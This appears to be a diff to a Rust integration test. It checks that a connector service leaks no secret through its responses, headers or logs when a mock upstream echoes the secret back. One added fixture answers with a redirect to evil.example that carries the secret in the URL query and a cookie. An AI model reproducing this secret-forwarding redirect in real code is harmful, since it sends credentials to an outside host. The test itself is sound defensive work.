@@ -47,6 +47,13 @@ fn spellings(secret: &str) -> Vec<String> {
 
 /// An answer that is full of the secret, and of the credential as it arrived.
 fn echo(hit: &Hit, secret: &str) -> Reply {
+    if hit.request_line().contains("/garbage") {
+        return Reply::Bytes(format!("NO-HTTP {secret}\r\n{secret}: {secret}\r\n\r\n").into_bytes());
+    }
+    if hit.request_line().contains("/moved") {
+        let location = format!("https://evil.example/?k={}", percent_encoded(secret));
+        return Reply::with(&format!("302 {secret}"), &[("Location", &location), ("Set-Cookie", secret)], secret);
+    }
     let spellings = spellings(secret);
     let credential = hit.header("authorization").unwrap_or_default();
     let headers: Vec<(String, String)> = spellings
@@ -121,14 +128,14 @@ async fn a_secret_that_comes_back_is_nowhere(
     });
     let path = service.register_enabled(&upstream.connector(&auth)).await;
     let mut answers = String::new();
-    for endpoint in ["/json", "/text", "/refused/json", "/refused/text"] {
+    for endpoint in ["/json", "/text", "/refused/json", "/refused/text", "/moved", "/garbage"] {
         let call = json!({ "operationType": "pull", "endpoint": endpoint, "applyMapping": endpoint == "/json" });
         let answer = service.post(&format!("{path}/execute"), &call).await;
         let log = answer.expect(200)["log"].clone();
-        let expected = if endpoint.starts_with("/refused") { "Failed" } else { "Success" };
+        let expected = if matches!(endpoint, "/json" | "/text") { "Success" } else { "Failed" };
         assert_eq!(log["status"], expected, "{log}");
         answers.push_str(answer.text());
-        answers.push_str(&format!("{:?}", answer.headers));
+        answers.extend(answer.headers.iter().flat_map(|(name, value)| [name.as_str(), value.as_str()]));
         let page = service.get(&format!("/api/v1/connectors/logs/{}", log["id"].as_str().expect("an id"))).await;
         answers.push_str(page.text());
     }
